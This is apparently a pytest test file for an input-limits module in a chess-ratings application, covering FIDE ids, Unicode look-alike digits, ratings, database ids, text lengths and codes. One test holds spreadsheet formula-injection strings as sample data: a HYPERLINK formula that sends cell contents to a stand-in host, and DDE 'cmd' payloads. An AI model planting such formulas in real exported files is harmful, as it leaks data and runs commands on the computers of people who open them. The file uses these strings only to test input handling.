"""ratings.limits: the one FIDE id rule, ASCII-only numbers, and the lengths the schema holds."""

from __future__ import annotations

import pytest
import sqlalchemy as sa
from hypothesis import given
from hypothesis import strategies as st

from ratings import limits
from ratings.errors import InvalidInputError, LimitError
from ratings.models import Bye, Event, Game, Import, Player

RULE = "not a FIDE id (1 to 11 digits 0-9, not 0)"

# digits int() accepts (or isdigit() claims) that are not 0-9
OTHER_DIGITS = {
    "Arabic-Indic": "\u0660",
    "Extended Arabic-Indic": "\u06f0",
    "Devanagari": "\u0966",
    "full-width": "\uff10",
    "mathematical bold": "\U0001d7ce",
}
SUPERSCRIPTS = "\u2070\u00b9\u00b2\u00b3\u2074\u2075\u2076\u2077\u2078\u2079"


def in_script(number: int, zero: str) -> str:
    """``number`` written with the ten digits that start at ``zero``."""
    return "".join(chr(ord(zero) + int(d)) for d in str(number))


def test_the_limits_are_the_schemas_columns() -> None:
    def length(column: sa.Column[str] | object) -> int | None:
        assert isinstance(column, sa.Column)
        assert isinstance(column.type, sa.String)
        return column.type.length

    assert length(Player.__table__.c.name) == limits.MAX_NAME_LENGTH
    assert length(Event.__table__.c.name) == limits.MAX_EVENT_LENGTH
    assert length(Game.__table__.c.round) == limits.MAX_ROUND_LENGTH
    assert length(Bye.__table__.c.round) == limits.MAX_ROUND_LENGTH
    assert length(Player.__table__.c.federation) == limits.FEDERATION_LENGTH
    assert length(Player.__table__.c.title) == max(map(len, limits.TITLES))
    assert length(Import.__table__.c.file_name) == limits.MAX_FILE_NAME_LENGTH
    assert isinstance(Player.__table__.c.fide_id.type, sa.BigInteger)
    assert limits.MAX_FIDE_ID < 2**63


def test_a_limit_error_is_a_ratings_error() -> None:
    # the CLI prints it as "Error: ..." without a traceback
    assert issubclass(LimitError, InvalidInputError)
    assert issubclass(LimitError, ValueError)


# --- FIDE ids ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "value"),
    [
        ("1", 1),
        ("1503014", 1503014),
        ("24116068", 24116068),
        ("999999999", 999_999_999),  # the longest FIDE issues today: 9 digits
        ("99999999999", 99_999_999_999),  # 11 digits: what the TRF column holds
        ("00000000042", 42),
    ],
)
def test_fide_ids(text: str, value: int) -> None:
    assert limits.fide_id(text) == value
    assert limits.check_fide_id(value) == value


@pytest.mark.parametrize(
    "text",
    [
        "",
        "0",
        "00000000000",
        "100000000000",  # 12 digits
        "000000000042",  # 12 characters
        "99999999999999999999999",
        "9" * 5000,  # int() would refuse it (more than 4300 digits)
        "-5",
        "+5",
        " 5",
        "5 ",
        "1_000",
        "5.0",
        "1e3",
        "0x10",
        "15O3014",
        SUPERSCRIPTS[1:4],  # isdigit() is true, int() refuses
        *(in_script(1503014, zero) for zero in OTHER_DIGITS.values()),  # int() accepts
    ],
)
def test_not_fide_ids(text: str) -> None:
    with pytest.raises(LimitError) as info:
        limits.fide_id(text)
    assert str(info.value) == f"{RULE}: {limits.show(text)}"


@pytest.mark.parametrize("value", [0, -1, 10**11, 10**30])
def test_not_fide_id_numbers(value: int) -> None:
    with pytest.raises(LimitError) as info:
        limits.check_fide_id(value)
    assert str(info.value) == f"{RULE}: {value}"


@given(st.text(max_size=30))
def test_a_fide_id_is_plain_digits_or_refused(text: str) -> None:
    try:
        value = limits.fide_id(text)
    except LimitError:
        return
    assert text.isascii()
    assert text.isdigit()
    assert len(text) <= 11
    assert 1 <= value <= limits.MAX_FIDE_ID
    assert str(value) == text.lstrip("0")


@given(st.integers(min_value=1, max_value=10**30), st.sampled_from(sorted(OTHER_DIGITS.values())))
def test_no_other_digits_are_converted(number: int, zero: str) -> None:
    written = in_script(number, zero)
    assert int(written) == number  # what int() would have done
    with pytest.raises(LimitError):
        limits.fide_id(written)
    with pytest.raises(LimitError):
        limits.whole_number(written, 0, 10**31)
    with pytest.raises(LimitError):
        limits.database_id(written, "game id")


# --- other numbers --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("abc", "not a whole number (digits 0-9): 'abc'"),
        ("\u0661\u0668\u0660\u0660", "not a whole number (digits 0-9): '\u0661\u0668\u0660\u0660'"),
        ("1_800", "not a whole number (digits 0-9): '1_800'"),
        ("+1800", "not a whole number (digits 0-9): '+1800'"),
        ("-", "not a whole number (digits 0-9): '-'"),
        ("3501", "not in 0..3500: '3501'"),
        ("-1", "not in 0..3500: '-1'"),
        ("9" * 5000, f"not in 0..3500: {'9' * 50!r}... (5000 characters)"),
    ],
)
def test_ratings(text: str, problem: str) -> None:
    with pytest.raises(LimitError) as info:
        limits.rating(text)
    assert str(info.value) == problem


def test_numbers_at_the_limits() -> None:
    assert (limits.rating("0"), limits.rating("3500"), limits.rating("0042")) == (0, 3500, 42)
    assert (limits.games("0"), limits.games("100000")) == (0, 100_000)
    with pytest.raises(LimitError, match=r"^not in 0\.\.100000: '100001'$"):
        limits.games("100001")
    assert limits.check_range(5, 5, 5) == 5
    with pytest.raises(LimitError, match=r"^not in 0\.\.3500: 3501$"):
        limits.check_range(3501, 0, 3500)


def test_database_ids() -> None:
    assert limits.game_id("1") == 1
    assert limits.game_id(str(2**63 - 1)) == 2**63 - 1
    with pytest.raises(LimitError, match=r"^not a game id \(at most 9223372036854775807\): "):
        limits.game_id(str(2**63))
    with pytest.raises(LimitError, match=r"^not a game id \(digits 0-9\): '-1'$"):
        limits.game_id("-1")
    with pytest.raises(LimitError, match=r"^not a player id \(digits 0-9\): '\uff11'$"):
        limits.database_id("\uff11", "player id")


# --- text -----------------------------------------------------------------------------------


@pytest.mark.parametrize("limit", [limits.MAX_ROUND_LENGTH, limits.MAX_EVENT_LENGTH])
def test_text_at_and_one_over_the_limit(limit: int) -> None:
    assert limits.check_text("x" * limit, limit) == "x" * limit
    with pytest.raises(LimitError) as info:
        limits.check_text("x" * (limit + 1), limit)
    assert str(info.value) == f"longer than {limit} characters: {limits.show('x' * (limit + 1))}"


@pytest.mark.parametrize(
    "text", ["a\x00b", "a\tb", "a\rb", "a\nb", "a\x7fb", "a\x85b", "a\u2028b", "a\u2029b"]
)
def test_control_characters(text: str) -> None:
    assert limits.has_control_character(text)
    with pytest.raises(LimitError, match=r"^contains a control character: "):
        limits.check_text(text, 200)


@pytest.mark.parametrize(
    "text",
    [
        "Smith, Ann",
        "O'Hara",
        "M\u00fcller",
        "\u674e\u5c0f\u9f99",
        "a\u00a0b",  # no-break space: printable enough
        '=HYPERLINK("http://x/?d="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_ordinary_and_formula_like_text_is_kept_as_written(text: str) -> None:
    # formula-like text is stored unchanged; output neutralises it
    assert not limits.has_control_character(text)
    assert limits.check_text(text, 200) == text


def test_names_count_as_stored() -> None:
    # blanks are collapsed before a name is stored, so they are not counted
    assert limits.name_length("a" + " " * 300 + "b") == "a" + " " * 300 + "b"
    assert limits.name_length("n" * 200) == "n" * 200
    with pytest.raises(LimitError, match=r"^longer than 200 characters: "):
        limits.name_length("n" * 100 + " " + "n" * 100)
    assert limits.event_name("  Club Ch  ") == "Club Ch"
    assert limits.round_name(" " + "r" * 20 + " ") == "r" * 20


def test_show_keeps_messages_short() -> None:
    assert limits.show("x" * 60) == repr("x" * 60)
    assert limits.show("x" * 61) == f"{'x' * 50!r}... (61 characters)"


def test_federations_and_titles() -> None:
    assert limits.federation("ned") == "NED"
    assert limits.title("wgm") == "WGM"
    for bad in ("NE", "NEDX", "N3D", "\u00dfX", "\u0130ND"):  # "ß".upper() is "SS"
        with pytest.raises(LimitError, match=r"^not a federation code \(3 letters\): "):
            limits.federation(bad)
    for bad in ("XX", "NM", "\u0261m"):
        with pytest.raises(LimitError, match=r"^not a title \("):
            limits.title(bad)


def test_option_names_the_option() -> None:
    assert limits.option("--rating", limits.rating, None) is None
    assert limits.option("--rating", limits.rating, "1800") == 1800
    with pytest.raises(LimitError) as info:
        limits.option("--fide-id", limits.fide_id, "\u0661")
    assert str(info.value) == f"--fide-id: {RULE}: '\u0661'"
